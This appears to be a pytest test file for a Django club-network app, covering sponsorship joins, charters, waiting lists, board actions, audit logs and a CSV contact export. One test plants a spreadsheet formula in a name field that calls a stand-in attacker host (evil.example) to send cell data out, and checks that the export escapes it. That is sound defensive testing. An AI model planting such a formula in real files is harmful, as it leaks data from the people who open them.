"""The admissions pages: join form, my applications, the board's page, export, audit trail."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from django.test import Client
from django.urls import reverse

from meute.accounts.models import ConsentPurpose, User
from meute.audit.models import AuditEntry
from meute.networks.models import AdmissionMode, Membership, Network, Status
from meute.networks.services import admissions
from meute.reference.models import Commune, NafCode
from tests.factories import (
    ConsentFactory,
    MembershipFactory,
    NetworkFactory,
    OrganisationFactory,
    PersonFactory,
)

pytestmark = pytest.mark.django_db

AsAny = Callable[[str], Client]


def test_a_cooptation_join_without_an_active_sponsor_is_answered_like_one_with(
    as_any: AsAny, club: Network, member: User, other_member: User, other_manager: User
) -> None:
    # The review's probe: 400 for an unknown address, 302 for a member's, told an outsider who
    # the members are. Both now get the same answer; the unknown one waits for a sponsor.
    Network.objects.filter(pk=club.pk).update(admission_mode=AdmissionMode.COOPTATION)
    url = reverse("networks:join", args=[club.slug])
    seen = []
    for role, typed in (("other_member", "inconnu@exemple.fr"), ("other_manager", "membre@club.example")):
        client = as_any(role)
        response = client.post(url, {"sponsor_email": typed})
        followed = client.get(response.url)  # type: ignore[attr-defined]
        mine = client.get(reverse("networks:applications"))
        row = mine.content.decode().split("<tbody>")[1].split("</tr>")[0]
        seen.append((response.status_code, [str(m) for m in followed.context["messages"]], row))
    assert seen[0][:2] == seen[1][:2]
    assert seen[0][0] == 302 and "attend la confirmation de votre parrain" in seen[0][1][0]
    assert seen[0][2] == seen[1][2]  # the same row on "Mes candidatures": no sponsor's name yet
    assert "Claire Moreau" not in seen[1][2] and "confirmation attendue" in seen[1][2]
    unknown = Membership.objects.get(network=club, person=other_member.person)
    assert (unknown.status, unknown.sponsor) == (Status.APPLIED, None)
    named = Membership.objects.get(network=club, person=other_manager.person)
    assert (named.status, named.sponsor) == (Status.APPLIED, member.person)


def test_a_cooptation_join_with_an_active_sponsor_waits_for_their_confirmation(
    as_any: AsAny, club: Network, member: User, other_member: User
) -> None:
    Network.objects.filter(pk=club.pk).update(admission_mode=AdmissionMode.COOPTATION)
    response = as_any("other_member").post(
        reverse("networks:join", args=[club.slug]), {"sponsor_email": "MEMBRE@club.example"}, follow=True
    )
    assert "attend la confirmation de votre parrain" in response.content.decode()
    applied = Membership.objects.get(network=club, person=other_member.person)
    assert applied.sponsor == member.person
    page = as_any("member").get(reverse("networks:applications")).content.decode()
    assert "Parrainages à confirmer" in page
    as_any("member").post(reverse("networks:sponsor_answer", args=[applied.pk]), {"answer": "confirm"})
    applied.refresh_from_db()
    assert applied.sponsor_confirmed_at is not None


def test_declining_a_sponsorship_without_a_reason_names_the_field(
    as_any: AsAny, club: Network, member: User
) -> None:
    applied = MembershipFactory(network=club, status=Status.APPLIED, sponsor=member.person, start_date=None)
    response = as_any("member").post(
        reverse("networks:sponsor_answer", args=[applied.pk]), {"answer": "decline"}
    )
    assert response.status_code == 400
    assert "Indiquez pourquoi vous ne parrainez pas" in response.content.decode()


def test_a_charter_must_be_ticked_to_join(as_any: AsAny, club: Network, other_member: User) -> None:
    Network.objects.filter(pk=club.pk).update(charter="Pas de démarchage.", charter_version="2026-1")
    url = reverse("networks:join", args=[club.slug])
    response = as_any("other_member").post(url, {})
    assert response.status_code == 400
    assert "Acceptez la charte" in response.content.decode()
    as_any("other_member").post(url, {"accept_charter": "on"})
    assert Membership.objects.get(network=club, person=other_member.person).charter_version == "2026-1"


def test_an_applicant_to_a_full_club_is_told_about_the_waiting_list(
    as_any: AsAny, club: Network, other_member: User
) -> None:
    MembershipFactory(network=club)
    taken = Membership.objects.filter(network=club, status=Status.ACTIVE).count()
    Network.objects.filter(pk=club.pk).update(admission_mode=AdmissionMode.APPLICATION, member_cap=taken)
    page = as_any("other_member").post(reverse("networks:join", args=[club.slug]), {}, follow=True)
    assert (
        "complet pour l&#x27;instant" in page.content.decode()
        or "complet pour l'instant" in page.content.decode()
    )
    assert Membership.objects.get(network=club, person=other_member.person).status == Status.APPLIED


def test_a_taken_profession_is_told_so_and_offered_free_networks_nearby(
    as_any: AsAny, club: Network, other_member: User
) -> None:
    naf = NafCode.objects.get(code="43.22A")
    tours = Commune.objects.get(insee="37261")
    Network.objects.filter(pk=club.pk).update(one_seat_per_profession=True, commune=tours)
    MembershipFactory(network=club, person=PersonFactory(organisation=OrganisationFactory(naf=naf)))
    other_member.person.organisation = OrganisationFactory(naf=naf)
    other_member.person.commune = tours
    other_member.person.save()
    free = NetworkFactory(name="Club libre", one_seat_per_profession=True, commune=tours)
    taken = NetworkFactory(name="Club pris", one_seat_per_profession=True, commune=tours)
    MembershipFactory(network=taken, person=PersonFactory(organisation=OrganisationFactory(naf=naf)))
    response = as_any("other_member").post(reverse("networks:join", args=[club.slug]))
    html = response.content.decode()
    assert response.status_code == 409
    assert "Un seul siège par métier" in html
    assert free.name in html and taken.name not in html
    assert "{&#x27;text&#x27;" not in html and "{'text'" not in html  # reasons as sentences
    assert not Membership.objects.filter(network=club, person=other_member.person).exists()


def test_applicants_see_status_sponsor_reason_and_waiting_position(
    as_any: AsAny, club: Network, other_member: User
) -> None:
    person = other_member.person
    Network.objects.filter(pk=club.pk).update(member_cap=1)
    refused_in = NetworkFactory(name="Club sélectif")
    MembershipFactory(network=refused_in, person=person, status=Status.REFUSED, reason="Trop loin")
    MembershipFactory(network=club, status=Status.WAITLISTED, queue_position=1, start_date=None)
    MembershipFactory(
        network=club, person=person, status=Status.WAITLISTED, queue_position=2, start_date=None
    )
    html = as_any("other_member").get(reverse("networks:applications")).content.decode()
    assert "Trop loin" in html
    assert "Rang 2 sur la liste d&#x27;attente" in html or "Rang 2 sur la liste d'attente" in html


def test_the_board_page_explains_that_approval_when_full_goes_to_the_waiting_list(
    as_any: AsAny, club: Network, manager: User
) -> None:
    Network.objects.filter(pk=club.pk).update(member_cap=1, admission_mode=AdmissionMode.APPLICATION)
    applied = MembershipFactory(network=club, status=Status.APPLIED, start_date=None)
    html = as_any("manager").get(reverse("networks:manage", args=[club.slug])).content.decode()
    assert "une candidature acceptée passe en liste d" in html
    response = as_any("manager").post(reverse("networks:approve", args=[club.slug, applied.pk]), follow=True)
    assert "placé(e) en liste d" in response.content.decode()
    applied.refresh_from_db()
    assert applied.status == Status.WAITLISTED


def test_refusing_without_a_reason_names_the_field(as_any: AsAny, club: Network, manager: User) -> None:
    applied = MembershipFactory(network=club, status=Status.APPLIED, start_date=None)
    response = as_any("manager").post(
        reverse("networks:refuse", args=[club.slug, applied.pk]), {"reason": " "}
    )
    assert response.status_code == 400
    assert "Motif du refus" in response.content.decode() and "Indiquez le motif" in response.content.decode()
    applied.refresh_from_db()
    assert applied.status == Status.APPLIED


def test_marking_left_without_a_date_names_the_field(as_any: AsAny, club: Network, manager: User) -> None:
    m = MembershipFactory(network=club)
    response = as_any("manager").post(reverse("networks:mark_left", args=[club.slug, m.pk]), {"end_date": ""})
    assert response.status_code == 400
    assert "Date de départ : Indiquez la date de départ." in response.content.decode()


def test_a_president_who_notes_their_own_departure_lands_on_the_network_page(
    as_any: AsAny, club: Network, manager: User
) -> None:
    from django.utils import timezone

    from meute.networks.models import Role

    MembershipFactory(network=club, role=Role.BOARD)  # someone stays to manage the network
    own = Membership.objects.get(network=club, person=manager.person)
    response = as_any("manager").post(
        reverse("networks:mark_left", args=[club.slug, own.pk]),
        {"end_date": timezone.localdate().isoformat()},
    )
    assert response.status_code == 302 and response["Location"] == club.get_absolute_url()
    own.refresh_from_db()
    assert own.status == Status.LEFT


def test_an_unknown_role_names_the_field(as_any: AsAny, club: Network, manager: User) -> None:
    m = MembershipFactory(network=club)
    response = as_any("manager").post(reverse("networks:set_role", args=[club.slug, m.pk]), {"role": "roi"})
    assert response.status_code == 400
    assert "Rôle :" in response.content.decode()


def test_the_audit_page_lists_who_did_what_and_when(as_any: AsAny, club: Network, manager: User) -> None:
    m = MembershipFactory(network=club)
    as_any("manager").post(reverse("networks:set_role", args=[club.slug, m.pk]), {"role": "board"})
    AuditEntry.objects.create(network=NetworkFactory(), action="x", summary="Ailleurs")
    html = as_any("manager").get(reverse("networks:audit", args=[club.slug])).content.decode()
    assert "changement de rôle" in html and "Marc Lenoir" in html
    assert "Ailleurs" not in html


def test_the_contact_export_lists_only_consenting_members_and_is_logged(
    as_any: AsAny, club: Network, manager: User, member: User
) -> None:
    ConsentFactory(person=member.person, purpose=ConsentPurpose.MATCHMAKING, granted=True)
    silent = MembershipFactory(network=club).person
    ConsentFactory(person=silent, purpose=ConsentPurpose.DIRECTORY, granted=True)
    response = as_any("manager").get(reverse("networks:contacts_export", args=[club.slug]))
    body = response.content.decode("utf-8-sig")
    assert response["Content-Type"].startswith("text/csv")
    lines = body.strip().splitlines()
    assert lines[0] == "Nom;Entreprise;E-mail;Téléphone"
    assert len(lines) == 2 and "Claire Moreau" in lines[1]
    assert AuditEntry.objects.filter(action="network.contacts_export", network=club).exists()


def test_the_contact_export_writes_a_formula_typed_as_a_name_as_plain_text(
    as_any: AsAny, club: Network, manager: User, member: User
) -> None:
    person = member.person
    person.first_name = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    person.save()
    ConsentFactory(person=person, purpose=ConsentPurpose.MATCHMAKING, granted=True)
    body = (
        as_any("manager")
        .get(reverse("networks:contacts_export", args=[club.slug]))
        .content.decode("utf-8-sig")
    )
    [row] = list(csv.reader(io.StringIO(body), delimiter=";"))[1:]
    assert row[0] == "'" + person.full_name
    assert row[0].startswith("'=HYPERLINK(")


def test_the_contact_export_is_a_404_when_the_network_refuses_solicitation(
    as_any: AsAny, club: Network, manager: User
) -> None:
    Network.objects.filter(pk=club.pk).update(
        refuses_solicitation=True, charter="Pas de démarchage.", charter_version="1"
    )
    assert as_any("manager").get(reverse("networks:contacts_export", args=[club.slug])).status_code == 404
    assert as_any("staff").get(reverse("networks:contacts_export", args=[club.slug])).status_code == 404


def test_the_member_area_links_meetings_attendance_and_referrals(as_any: AsAny, club: Network) -> None:
    html = as_any("member").get(club.get_absolute_url()).content.decode()
    assert "/reseaux/club/assiduite/" in html and "/reseaux/club/recommandations/" in html
    assert "Prochaines rencontres" in html
    Network.objects.filter(pk=club.pk).update(
        refuses_solicitation=True, charter="Charte", charter_version="1"
    )
    assert "/recommandations/" not in as_any("member").get(club.get_absolute_url()).content.decode()


def test_a_member_leaving_offers_the_seat_and_the_applicant_accepts_it_on_their_page(
    as_any: AsAny, club: Network, member: User, other_member: User
) -> None:
    Network.objects.filter(pk=club.pk).update(member_cap=1)
    waiting = admissions.membership_request(person=other_member.person, network=club)
    assert waiting.status == Status.WAITLISTED
    as_any("member").post(reverse("networks:leave", args=[club.slug]))
    html = as_any("other_member").get(reverse("networks:applications")).content.decode()
    assert "Accepter la place dans" in html
    as_any("other_member").post(reverse("networks:offer_accept", args=[waiting.pk]))
    waiting.refresh_from_db()
    assert waiting.status == Status.ACTIVE
    assert Membership.objects.filter(network=club, status=Status.ACTIVE).count() == 1


def test_the_members_of_a_big_network_come_fifty_a_page_with_a_search(
    as_any: AsAny, club: Network, manager: User
) -> None:
    from meute.networks.views import MEMBERS_PER_PAGE

    MembershipFactory.create_batch(60, network=club)
    target = MembershipFactory(network=club, person=PersonFactory(first_name="Zoé", last_name="Zygomar"))
    url = reverse("networks:manage", args=[club.slug])
    client = as_any("manager")

    first = client.get(url)
    assert len(first.context["members"].object_list) == MEMBERS_PER_PAGE
    assert "Page 1 sur 2" in first.content.decode()
    found = client.get(url, {"q": "zygo"})
    assert [m.pk for m in found.context["members"].object_list] == [target.pk]
    # an error on a member of page 2 shows page 2, with the message in their row
    error = client.post(reverse("networks:mark_left", args=[club.slug, target.pk]), {"end_date": ""})
    assert error.status_code == 400
    assert target.pk in [m.pk for m in error.context["members"].object_list]


def test_demoting_the_last_board_member_is_refused_in_their_row(
    as_any: AsAny, club: Network, manager: User
) -> None:
    own = Membership.objects.get(network=club, person=manager.person)
    response = as_any("manager").post(
        reverse("networks:set_role", args=[club.slug, own.pk]), {"role": "member"}
    )
    assert response.status_code == 400
    assert "Le réseau doit garder au moins un membre du bureau." in response.content.decode()
    own.refresh_from_db()
    assert own.role == "president"
